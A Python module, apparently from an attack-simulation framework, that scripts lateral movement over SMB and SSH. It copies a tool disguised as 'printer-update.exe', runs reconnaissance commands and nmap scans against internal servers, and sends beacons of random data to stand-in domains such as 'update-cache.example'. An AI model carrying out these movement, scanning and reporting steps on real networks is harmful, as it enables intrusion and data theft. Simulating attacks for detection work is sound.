"""From machine to machine: tools are copied, then work goes on from there."""

from ..plan import HOSTS
from ..work import Work, attack
from .means import EMPLOYEE, asks, by, https, scp, smb, ssh, tool, turns


@attack("smb-movement", causes=asks("update-cache.example"))
def smb_movement(w: Work, intensity: str) -> None:
    """A tool is copied to the file server over SMB and then acts there: it looks at the other servers' ports and reports to
    the adversary."""
    size = by(intensity, 600_000, 200_000, 60_000)
    smb(w, "public", f"put {tool(w, size)} printer-update.exe; ls", EMPLOYEE)
    w.sleep(by(intensity, 30, 120, 480))
    with w.on("files"):
        _look(w, intensity)
        _report_to(w, "update-cache.example", intensity)


@attack("ssh-movement", causes=asks("asset-inventory.example"))
def ssh_movement(w: Work, intensity: str) -> None:
    """A tool is copied over SSH with a service account to the administrator's workstation and from there to the backup
    server, which reports to the adversary."""
    path = tool(w, by(intensity, 600_000, 200_000, 60_000))
    first = "admin-1" if w.host.name != "admin-1" else "office-2"
    for here, there in ((w.host.name, first), (first, "backup")):
        with w.on(here):
            scp(w, path, there, "/tmp/inventory.bin")
            w.pause(w.rng.uniform(1, 4))
            ssh(w, there, "id; uname -a; ls /home; cat /etc/hosts")
        w.sleep(by(intensity, 30, 120, 480))
        with w.on(there):
            _look(w, intensity)
    with w.on("backup"):
        _report_to(w, "asset-inventory.example", intensity)


def _look(w: Work, intensity: str) -> None:
    """What the machine that was reached can reach in turn."""
    targets = [HOSTS[name].v4 for name in by(intensity, ("infra", "pacs", "his", "db", "mail"), ("pacs", "his", "db"), ("db",))]
    pace = by(intensity, ["-T4"], ["--max-rate", "10"], ["--max-rate", 16 / w.clock.factor])
    w.run("nmap", "-n", "-Pn", "--send-ip", "-sT", "-p", "22,80,445,5432,8080", "--max-retries", "0", *pace, *targets,
          timeout=120)


def _report_to(w: Work, domain: str, intensity: str) -> None:
    count, period = by(intensity, (8, 48), (5, 120), (4, 480))
    for turn in turns(w, count, period, 0.4):
        https(w, domain, f"/inventory/{turn}", w.rng.randbytes(w.rng.randrange(200, 1500)))
